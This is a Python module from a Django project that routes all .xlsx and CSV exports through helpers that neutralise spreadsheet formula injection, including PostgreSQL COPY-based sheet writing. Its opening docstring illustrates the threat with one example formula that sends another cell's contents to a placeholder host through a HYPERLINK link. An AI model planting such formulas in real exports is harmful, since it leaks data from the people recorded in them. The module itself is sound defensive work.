"""Spreadsheets whose text stays text: the one place every export writes .xlsx and CSV through.

A spreadsheet program runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula. Text an HTX manager typed (a street, a product's name) or a file someone
imported could then, in an officer's export, build a link that sends other rows away
(`=HYPERLINK("http://x.example/?s="&B2,"Xem")`), or worse. OWASP, "CSV Injection":
https://owasp.org/www-community/attacks/CSV_Injection. So:

- **.xlsx**: every text value is a string cell, never a formula, whatever it starts with.
  Workbooks are made by `XlsxWorkbook` (rvgsrust-xlsxwriter, Python bindings of
  rust_xlsxwriter): its sheets pass every value through `xlsx_value` and hand text to the
  writer as a string, which writes it as a string cell (formulas are written only by a method
  of the writer's that XlsxSheet does not expose). Numbers, dates and booleans stay typed
  cells; dates carry DATE_FORMAT. Long lists go through `XlsxSheet.write_rows` on a
  constant-memory sheet: one row in memory, the file written to disk as it grows. On
  PostgreSQL a long list's rows can instead be written by the database
  (`write_sheet_rows_by_copy`: the XML of each <row> from `COPY … TO STDOUT`, below the
  header XlsxWorkbook wrote): the same cells, text an inline string there too, never a formula.
- **CSV**: a text value whose first character is one of FORMULA_TRIGGERS gets a single quote
  in front (`=1+1` → `'=1+1`), as OWASP says. Only text is marked: a number is written as a
  number (-5 stays `-5`), but the *text* "-5" (a phone number "+84…", a code) gets the quote.
  Text that already starts with quotes before a trigger (`'=x`) gets one more, so that
  reading drops exactly one quote (`csv_restore`) and an export read back by our import gives
  the very text it was written from. PostgreSQL's COPY writes the same bytes through
  `sql_csv_neutralise`.

Writers must not make a workbook (rvgsrust-xlsxwriter's, XlsxWriter's or openpyxl's), a
`csv.writer` or a `COPY … TO STDOUT` themselves: `hoptac/core/tests/test_spreadsheet_safety.py`
scans the code for them, and `hoptac/core/tests/test_export_injection.py` downloads every
export with hostile text.
"""

from __future__ import annotations

import csv
import re
import tempfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    from django.db.models import Expression, QuerySet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_MARK = "'"
# The same test as csv_neutralise, for PostgreSQL (the tab and carriage return are the
# characters themselves): optional quotes, then a trigger, at the start.
_SQL_TRIGGER_PATTERN = "^(" + CSV_MARK + "*[-=+@\t\r])"


# --- CSV --------------------------------------------------------------------------------------


def csv_needs_mark(text: str) -> bool:
    """Whether spreadsheet programs could read `text` as a formula (after any quotes)."""
    return text.lstrip(CSV_MARK).startswith(FORMULA_TRIGGERS)


def csv_neutralise(text: str) -> str:
    """`text` as a CSV cell may hold it: a quote in front when it starts with a trigger."""
    return CSV_MARK + text if csv_needs_mark(text) else text


def csv_restore(text: str) -> str:
    """The text csv_neutralise was given: the one quote it added dropped (an import of our own
    CSV gets the text back); any other text unchanged."""
    if text.startswith(CSV_MARK) and csv_needs_mark(text):
        return text[1:]
    return text


def csv_plain(value: Any) -> str:
    """A typed value as CSV text: ISO dates (read by Excel in any locale), plain numbers,
    TRUE/FALSE; None as an empty cell. Text is returned as it is (csv_cell marks it)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Decimal):
        return str(value.quantize(Decimal(1))) if value == value.to_integral_value() else str(value)
    return str(value)


def csv_cell(value: Any) -> str:
    """A value as a CSV cell: text neutralised, anything else written as csv_plain does."""
    if isinstance(value, str):
        return csv_neutralise(value)
    return csv_plain(value)


class _Echo:
    """A file-like object whose write returns what it was given (for csv.writer)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(
    rows: Iterable[Sequence[Any]],
    *,
    header: Sequence[Any],
    title_rows: Sequence[Sequence[Any]] = (),
    delimiter: str = ",",
) -> Iterator[str]:
    """CSV text, line by line, starting with a UTF-8 BOM (so that Excel reads the Vietnamese
    letters right), every cell through csv_cell: for a StreamingHttpResponse or a file."""
    writer = csv.writer(_Echo(), delimiter=delimiter)
    yield "\ufeff"
    for title in title_rows:
        yield writer.writerow([csv_cell(v) for v in title])
    yield writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        yield writer.writerow([csv_cell(v) for v in row])


def sql_csv_neutralise(expression: Expression) -> Expression:
    """A text expression as csv_neutralise would write its value, in SQL, for CSV written by
    COPY: PostgreSQL's regexp_replace, asked only of values whose first character is a
    trigger or a quote (an integer test on ascii(): over a million rows the regular
    expression on every value would double the query's time). NULL stays NULL."""
    from django.db.models import Case, Func, TextField, Value, When
    from django.db.models.functions import Ord
    from django.db.models.lookups import In

    text = TextField()
    marked = Func(
        expression,
        Value(_SQL_TRIGGER_PATTERN),
        Value(CSV_MARK + "\\1"),
        function="regexp_replace",
        output_field=text,
    )
    first = In(Ord(expression), [ord(c) for c in (*FORMULA_TRIGGERS, CSV_MARK)])
    return Case(When(first, then=marked), default=expression, output_field=text)


def copy_csv_rows(rows: QuerySet[Any]) -> Iterator[bytes]:
    """The rows of `rows` (a PostgreSQL `values()` queryset whose text columns went through
    sql_csv_neutralise) as CSV bytes written by `COPY (SELECT …) TO STDOUT WITH CSV`, one row
    at a time, each line ending in "\\r\\n" as csv_lines writes it (no BOM, no header)."""
    from django.db import connections

    sql, params = rows.query.sql_with_params()
    connection = connections[rows.db]
    with (
        connection.cursor() as cursor,
        cursor.cursor.copy(f"COPY ({sql}) TO STDOUT WITH (FORMAT csv)", params) as copy,
    ):
        for data in copy:
            row = bytes(data)
            yield row[:-1] + b"\r\n" if row.endswith(b"\n") else row


# --- .xlsx ------------------------------------------------------------------------------------

DATE_FORMAT = "dd/mm/yyyy"
DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
MONEY_FORMAT = "#,##0"
MAX_EXACT_NUMBER = 2**53  # larger whole numbers are written as text, not to lose digits
MAX_TEXT = 32_767  # Excel's limit for the text of one cell
# Excel counts days from 30 December 1899 (serial 60 is its 29 February 1900, which never
# was): a serial number is exact from 1 March 1900 on.
_EXCEL_EPOCH = date(1899, 12, 30).toordinal()
# (year, month) from which a date is written as a serial number, and the first year Excel has;
# compared by year and month, as a datetime does not compare with a date.
_SERIAL_FROM = (1900, 3)
_FIRST_YEAR = 1900


@dataclass(frozen=True, slots=True)
class Style:
    """How a cell looks: bold, wrapped (top-aligned), font size, number format."""

    bold: bool = False
    wrap: bool = False
    size: float | None = None
    num_format: str | None = None


BOLD = Style(bold=True)
HEADER = Style(bold=True, wrap=True)


def xlsx_value(value: Any) -> Any:
    """`value` as the .xlsx writer takes it: text as text (lazy translations and other
    objects as their text, cut at Excel's MAX_TEXT), whole numbers beyond MAX_EXACT_NUMBER
    as text, a Decimal as a whole number or a float; numbers, booleans and dates typed (a
    date before 1900, which Excel cannot hold, as its text dd/mm/yyyy)."""
    if isinstance(value, date):
        # Excel has no date before 1 January 1900: such a date is written as its text.
        return value if value.year >= _FIRST_YEAR else value.strftime("%d/%m/%Y")
    if value is None or isinstance(value, bool | float):
        return value
    if isinstance(value, int):
        return value if -MAX_EXACT_NUMBER < value < MAX_EXACT_NUMBER else str(value)
    if isinstance(value, Decimal):
        if value == value.to_integral_value():
            return int(value) if abs(value) < MAX_EXACT_NUMBER else format(value, "f")
        return float(value)
    text = value if isinstance(value, str) else str(value)
    return text[:MAX_TEXT]


def _serial(value: date) -> int | float:
    """Excel's serial number of a date (or a date and time) from 1 March 1900 on."""
    days = value.toordinal() - _EXCEL_EPOCH
    if isinstance(value, datetime):
        seconds = value.hour * 3600 + value.minute * 60 + value.second
        return days + (seconds + value.microsecond / 1e6) / 86400
    return days


def _naive(value: datetime) -> datetime:
    """A datetime as Excel holds it: local time without a zone."""
    if value.tzinfo is None:
        return value
    from django.utils import timezone

    return timezone.localtime(value).replace(tzinfo=None)


class XlsxSheet:
    """A worksheet of an XlsxWorkbook. Every value goes through xlsx_value, so text is a
    string cell and nothing is ever a formula (the writer has formulas only through a
    method this class does not expose)."""

    def __init__(self, book: XlsxWorkbook, sheet: Any, *, constant_memory: bool) -> None:
        self._book = book
        self._sheet = sheet
        self.constant_memory = constant_memory

    def write(self, row: int, column: int, value: Any, style: Style | None = None) -> None:
        """One cell (0-based row and column); a date without a date format gets DATE_FORMAT
        (DATETIME_FORMAT with a time)."""
        value = xlsx_value(value)
        if isinstance(value, date):
            if isinstance(value, datetime):
                value = _naive(value)
            if not (style and style.num_format):
                fmt = DATETIME_FORMAT if isinstance(value, datetime) else DATE_FORMAT
                style = replace(style or Style(), num_format=fmt)
        if value is None and style is None:
            return
        self._sheet.write(row, column, value, self._book.format_of(style))

    def write_row(self, row: int, values: Iterable[Any], style: Style | None = None) -> None:
        """A row of cells from column A, one by one (for short rows: titles, headers)."""
        for column, value in enumerate(values):
            self.write(row, column, value, style)

    def write_rows(
        self,
        first_row: int,
        rows: Iterable[Sequence[Any]],
        *,
        date_columns: frozenset[int] = frozenset(),
        batch: int = 1000,
    ) -> int:
        """Many rows from `first_row` on, in batches handed to the writer at once (the fast
        path of long lists); returns their number. Dates in `date_columns` are written as
        serial numbers and take the column's format (set with `column`); a row with any other
        date is written cell by cell, with DATE_FORMAT."""
        pending: list[list[Any]] = []
        start = number = first_row
        for values in rows:
            out: list[Any] = []
            by_cell = False
            for index, value in enumerate(values):
                kind = value.__class__
                if kind is str:
                    out.append(value if len(value) <= MAX_TEXT else value[:MAX_TEXT])
                elif value is None or kind is float or kind is bool:
                    out.append(value)
                elif isinstance(value, date) and value.year >= _FIRST_YEAR:
                    if index in date_columns and (value.year, value.month) >= _SERIAL_FROM:
                        naive = _naive(value) if isinstance(value, datetime) else value
                        out.append(_serial(naive))
                    else:
                        by_cell = True
                        out.append(value)
                else:
                    out.append(xlsx_value(value))
            if by_cell:
                if pending:
                    self._sheet.write_rows(start, 0, pending)
                    pending = []
                self.write_row(number, out)
                start = number + 1
            else:
                pending.append(out)
                if len(pending) >= batch:
                    self._sheet.write_rows(start, 0, pending)
                    start, pending = number + 1, []
            number += 1
        if pending:
            self._sheet.write_rows(start, 0, pending)
        return number - first_row

    def column(
        self, column: int, *, width: float | None = None, num_format: str | None = None
    ) -> None:
        """A column's width (in characters) and the number format its unstyled cells take."""
        if width is not None:
            self._sheet.set_column_width(column, width)
        if num_format:
            self._sheet.set_column_format(
                column, self._book.format_of(Style(num_format=num_format))
            )

    def freeze(self, row: int, column: int = 0) -> None:
        """Keep the rows above `row` and the columns left of `column` in view."""
        self._sheet.freeze_panes(row, column)

    def row_height(self, row: int, height: float) -> None:
        self._sheet.set_row_height(row, height)

    def merge(
        self, row: int, first_column: int, last_column: int, value: Any, style: Style | None = None
    ) -> None:
        """Cells of one row merged, holding `value` (text as text)."""
        value = xlsx_value(value)
        self._sheet.merge_range(
            row, first_column, row, last_column, value, self._book.format_of(style or Style())
        )

    def choice_list(self, first_row: int, last_row: int, column: int, choices: list[str]) -> bool:
        """A drop-down of `choices` on the cells of a column; False when Excel cannot hold the
        list in the rule (255 characters) and none was added."""
        from rvgsrust_xlsxwriter import DataValidation

        rule = DataValidation()
        try:
            rule.allow_list_strings([xlsx_value(choice) for choice in choices])
        except ValueError:
            return False
        self._sheet.add_data_validation(first_row, column, last_row, column, rule)
        return True


_SHEET_NAME_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", " "))


class XlsxWorkbook:
    """An .xlsx written to `path` by rvgsrust-xlsxwriter (Python bindings of rust_xlsxwriter):
    the one class that makes a workbook. Sheets made with `constant_memory=True` keep one row
    in memory and must be written top to bottom."""

    def __init__(self, path: str | Path) -> None:
        from rvgsrust_xlsxwriter import Workbook

        self._path = str(path)
        self._book = Workbook(self._path)
        self._formats: dict[Style, Any] = {}
        self._titles: set[str] = set()

    def format_of(self, style: Style | None) -> Any:
        """The writer's Format of a Style, made once per workbook."""
        if style is None:
            return None
        if style not in self._formats:
            fmt = self._book.add_format()
            if style.bold:
                fmt.set_bold()
            if style.wrap:
                fmt.set_text_wrap()
                fmt.set_vertical_align("top")
            if style.size:
                fmt.set_font_size(style.size)
            if style.num_format:
                fmt.set_num_format(style.num_format)
            self._formats[style] = fmt
        return self._formats[style]

    def add_sheet(self, title: str, *, constant_memory: bool = False) -> XlsxSheet:
        """A new sheet; its title made one Excel accepts (31 characters, none of []:*?/\\,
        unique in the workbook)."""
        name = (str(title).translate(_SHEET_NAME_FORBIDDEN).strip("' ") or "Sheet")[:31]
        base, number = name, 1
        while name.casefold() in self._titles:
            number += 1
            name = f"{base[: 31 - len(str(number)) - 1]} {number}"
        self._titles.add(name.casefold())
        sheet = self._book.add_worksheet(name, constant_memory=constant_memory)
        return XlsxSheet(self, sheet, constant_memory=constant_memory)

    def close(self) -> None:
        """Write the file."""
        self._book.close()


def xlsx_bytes(build: Callable[[XlsxWorkbook], None]) -> bytes:
    """The .xlsx that `build` writes into a new workbook, as bytes (for small workbooks:
    templates, forms, written reports)."""
    with tempfile.TemporaryDirectory(prefix="hoptac-xlsx-") as folder:
        path = Path(folder) / "book.xlsx"
        book = XlsxWorkbook(path)
        build(book)
        book.close()
        return path.read_bytes()


# --- .xlsx rows written by PostgreSQL ---------------------------------------------------------
#
# A long list's rows as PostgreSQL writes them: `COPY (SELECT …) TO STDOUT` sends each row as
# the XML of the sheet's <row>, and Python only deflates it into the workbook that XlsxWorkbook
# wrote around it (title rows, header, widths, formats, frozen panes: the "frame"). The cells
# are those XlsxSheet.write_rows gives for the same values: text as an inline string (never a
# formula: the SQL has no other way to write text), with rust_xlsxwriter's escapes (`_xHHHH_`
# for control characters, `_x005F_` before a literal `_xHHHH_`, xml:space="preserve" around
# outer whitespace), cut at MAX_TEXT, empty text as no cell; numbers as numbers (whole numbers
# beyond MAX_EXACT_NUMBER as text); dates from 1 March 1900 as serial numbers, before 1900 as
# their text dd/mm/yyyy; booleans as booleans; NULL as no cell. Every cell takes its column's
# style, as the writer's cells do. Measured in bench/README.md ("Export .xlsx").

XLSX_TEXT = "text"
XLSX_NUMBER = "number"
XLSX_DATE = "date"
XLSX_BOOL = "bool"
XLSX_KINDS = (XLSX_TEXT, XLSX_NUMBER, XLSX_DATE, XLSX_BOOL)
_SHEET_PART = "xl/worksheets/sheet1.xml"
_DIMENSION = re.compile(rb'<dimension ref="[A-Z]+[0-9]+(?::([A-Z]+)[0-9]+)?"/>')
_COLUMN_STYLE = re.compile(rb'<col min="([0-9]+)" max="([0-9]+)"[^>]*? style="([0-9]+)"')
# Characters that rust_xlsxwriter writes as _xHHHH_ (tab and line feed stay themselves).
_ESCAPED_CONTROLS = [c for c in range(1, 32) if c not in (9, 10)]
# A row's texts joined by DEL (chr(127)) that need escaping: &, < or >, a control character
# or a backslash (COPY's own escape), Excel's escape written literally, whitespace at either
# end of a text. (A DEL in a text may make a row "rare" for nothing: it is then only slower.)
_RARE_ROW = "[&<>\\x01-\\x1f\\\\]|_x[0-9A-Fa-f]{4}_|\\x7f\\s|\\s\\x7f"
_XLSX_CHUNK = 1 << 20  # bytes handed to the compressor at once
# Deflate level of the sheet: level 6 takes three times the CPU for a file 22 % smaller.
_ZIP_LEVEL = 1


def _column_letter(index: int) -> str:
    """Excel's name of the 0-based column `index` (0 → A, 27 → AB)."""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _column_number(letters: bytes | None) -> int:
    """The 1-based number of the column named `letters` (b"AB" → 28); 0 for None."""
    number = 0
    for letter in letters or b"":
        number = number * 26 + letter - 64
    return number


def sql_xlsx_values(kinds_and_values: Sequence[tuple[str, Expression]]) -> dict[str, Expression]:
    """The `values()` of a queryset whose rows write_sheet_rows_by_copy writes: one value a
    column, in order, each of a kind of XLSX_KINDS (text cut at MAX_TEXT, empty text NULL)."""
    from django.db.models import TextField, Value
    from django.db.models.functions import Left, NullIf

    out: dict[str, Expression] = {}
    for index, (kind, value) in enumerate(kinds_and_values):
        if kind not in XLSX_KINDS:
            raise ValueError(f"unknown cell kind {kind!r}")
        if kind == XLSX_TEXT:
            value = NullIf(Left(value, MAX_TEXT), Value(""), output_field=TextField())
        out[f"c{index}"] = value
    return out


def _sql_text_cell(value: str, ref: str) -> str:
    """SQL of an inline string cell holding the text `value` (SQL), rust_xlsxwriter's way;
    NULL for NULL. Only the cells of a row that has a text to escape (w.rare) are escaped:
    most rows have none."""
    full = f"replace(replace(replace({value}, '&', '&amp;'), '<', '&lt;'), '>', '&gt;')"
    full = f"regexp_replace({full}, '_(x[0-9A-Fa-f]{{4}}_)', '_x005F_\\1', 'g')"
    for code, entity in ((92, "&#92;"), (9, "&#9;"), (10, "&#10;")):
        full = f"replace({full}, chr({code}), '{entity}')"
    for code in _ESCAPED_CONTROLS:
        full = f"replace({full}, chr({code}), '_x{code:04X}_')"
    preserve = f"CASE WHEN {value} ~ '^\\s|\\s$' THEN ' xml:space=\"preserve\"' ELSE '' END"
    return (
        f"CASE WHEN w.rare THEN '<c {ref} t=\"inlineStr\"><is><t' || {preserve} || '>' "
        f"|| {full} || '</t></is></c>' "
        f"ELSE '<c {ref} t=\"inlineStr\"><is><t>' || {value} || '</t></is></c>' END"
    )


def _sql_plain_text_cell(value: str, ref: str) -> str:
    """SQL of an inline string cell of a text that needs no escape (digits, a date's)."""
    return f"'<c {ref} t=\"inlineStr\"><is><t>' || {value} || '</t></is></c>'"


def _sql_cell(kind: str, value: str, ref: str) -> str:
    """SQL of one cell's XML (NULL: no cell); `ref` is its attributes r="…" and s="…"."""
    if kind == XLSX_TEXT:
        return _sql_text_cell(value, ref)
    if kind == XLSX_BOOL:
        return (
            f"CASE WHEN {value} THEN '<c {ref} t=\"b\"><v>1</v></c>' "
            f"WHEN NOT {value} THEN '<c {ref} t=\"b\"><v>0</v></c>' END"
        )
    if kind == XLSX_DATE:
        as_text = _sql_plain_text_cell(f"to_char({value}, 'DD/MM/YYYY')", ref)
        return (
            f"CASE WHEN {value} >= date '1900-03-01' "
            f"THEN '<c {ref}><v>' || ({value} - date '1899-12-30') || '</v></c>' "
            f"WHEN {value} >= date '1900-01-01' "
            f"THEN '<c {ref}><v>' || ({value} - date '1899-12-31') || '</v></c>' "
            f"ELSE {as_text} END"
        )
    return (
        f"CASE WHEN abs({value}) < {MAX_EXACT_NUMBER} "
        f"THEN '<c {ref}><v>' || {value} || '</v></c>' "
        f"ELSE {_sql_plain_text_cell(f'({value})::text', ref)} END"
    )


def _sql_sheet_rows(sql: str, kinds: Sequence[str], styles: dict[int, int], first: int) -> str:
    """The COPY statement around the rows' query `sql` (columns c0, c1… of `kinds`): one line
    a row, the <row> of sheet row `first` on; the first line starts with the number of rows
    and a space (row_number() over the ordered rows as the subquery gives them, as the CSV's
    COPY keeps their order). Whether a row has a text to escape is asked once a row, of its
    texts joined by DEL: one regular expression a row rather than one a cell."""
    cells = []
    for index, kind in enumerate(kinds):
        style = f' s="{styles[index]}"' if index in styles else ""
        ref = f"r=\"{_column_letter(index)}' || w.r || '\"{style}"
        cells.append(_sql_cell(kind, f"w.c{index}", ref))
    texts = [f"q.c{index}" for index, kind in enumerate(kinds) if kind == XLSX_TEXT]
    rare = f"concat_ws(chr(127), '', {', '.join(texts)}, '') ~ '{_RARE_ROW}'" if texts else "false"
    # No user data in the text: Django's query (its values passed apart, as `params`), the
    # column letters, style numbers and constants of this module.
    return (
        f"COPY (SELECT concat(CASE WHEN w.n = 1 THEN w.total || ' ' END, "  # noqa: S608
        f"'<row r=\"' || w.r || '\">', {', '.join(cells)}, '</row>') "
        f"FROM (SELECT count(*) OVER () AS total, row_number() OVER () AS n, "
        f"(row_number() OVER () + {first - 1})::text AS r, {rare} AS rare, q.* "
        f"FROM ({sql}) q) w ORDER BY w.n) TO STDOUT"
    )


def _column_styles(sheet_xml: bytes) -> dict[int, int]:
    """The style of each styled column of a sheet's XML (0-based column → cellXfs index)."""
    styles = {}
    for first, last, style in _COLUMN_STYLE.findall(sheet_xml):
        for column in range(int(first) - 1, int(last)):
            styles[column] = int(style)
    return styles


def write_sheet_rows_by_copy(
    frame: str | Path | IO[bytes],
    target: Any,
    rows: QuerySet[Any],
    *,
    kinds: Sequence[str],
    counted: Callable[[int], None] | None = None,
    every: int = 2000,
) -> int:
    """Write to `target` (a path or a binary file) the workbook `frame` (one sheet, written by
    XlsxWorkbook: its title rows and header) with the rows of `rows` added below its last
    row, written by PostgreSQL (`rows` is a PostgreSQL queryset of sql_xlsx_values). Calls
    `counted(n)` every `every` rows. Returns the number of rows added."""
    import zipfile

    from django.db import connections

    with zipfile.ZipFile(frame) as source:
        parts = [(info, source.read(info)) for info in source.infolist()]
    sheet = next(data for info, data in parts if info.filename == _SHEET_PART)
    sheet = sheet.replace(b"<sheetData/>", b"<sheetData></sheetData>")
    head, tail = sheet.split(b"</sheetData>")
    first = head.count(b"<row ") + 1
    dimension = _DIMENSION.search(head)
    columns = max(len(kinds), _column_number(dimension.group(1)) if dimension else 0)
    sql, params = rows.query.sql_with_params()
    statement = _sql_sheet_rows(sql, kinds, _column_styles(head), first)
    connection = connections[rows.db]
    count = 0
    with (
        connection.cursor() as cursor,
        cursor.cursor.copy(statement, params) as copy,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=_ZIP_LEVEL) as book,
    ):
        lines = (bytes(data) for data in copy)
        line = next(lines, None)
        total = 0
        if line is not None:
            space = line.index(b" ")
            total, line = int(line[:space]), line[space + 1 :]
        if total and dimension:
            last = f"{_column_letter(columns - 1)}{first - 1 + total}"
            ref = f'<dimension ref="A1:{last}"/>'.encode()
            head = head[: dimension.start()] + ref + head[dimension.end() :]
        for info, data in parts:
            if info.filename != _SHEET_PART:
                book.writestr(info, data)
                continue
            with book.open(_SHEET_PART, "w", force_zip64=total > 500_000) as out:
                out.write(head)
                pending: list[bytes] = []
                size = 0
                while line is not None:
                    pending.append(line)
                    size += len(line)
                    count += 1
                    if size >= _XLSX_CHUNK:
                        out.write(b"".join(pending))
                        pending, size = [], 0
                    if counted is not None and count % every == 0:
                        counted(count)
                    line = next(lines, None)
                out.write(b"".join(pending))
                out.write(b"</sheetData>" + tail)
    return count
